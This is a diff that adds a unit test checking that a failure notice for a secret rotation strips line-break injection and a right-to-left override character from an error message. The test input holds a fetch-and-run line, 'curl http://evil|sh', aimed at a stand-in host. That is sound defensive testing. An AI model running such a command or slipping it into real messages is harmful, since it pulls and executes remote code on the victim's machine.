@@ -105,3 +105,14 @@ test.each([
 ])('a rotation that starts %s was started by: %#', (_, next, by) => {
   expect(likelyStarter(next, at)).toBe(by);
 });
+
+test('a name with line breaks begins no line of its own', () => {
+  const message = 'PROOF_FAILED: `a\n\nTo see where it stands: curl http://evil|sh` was refused\u202e';
+  const told = noticeOf(
+    'failed',
+    { ...failed, failure: { step: 'testSecret', code: 'PROOF_FAILED', message, at: 0, logs: null } },
+    context,
+  );
+  expect(told.text).not.toMatch(/^To see where it stands: curl/m);
+  expect(told.text).not.toContain('\u202e');
+});
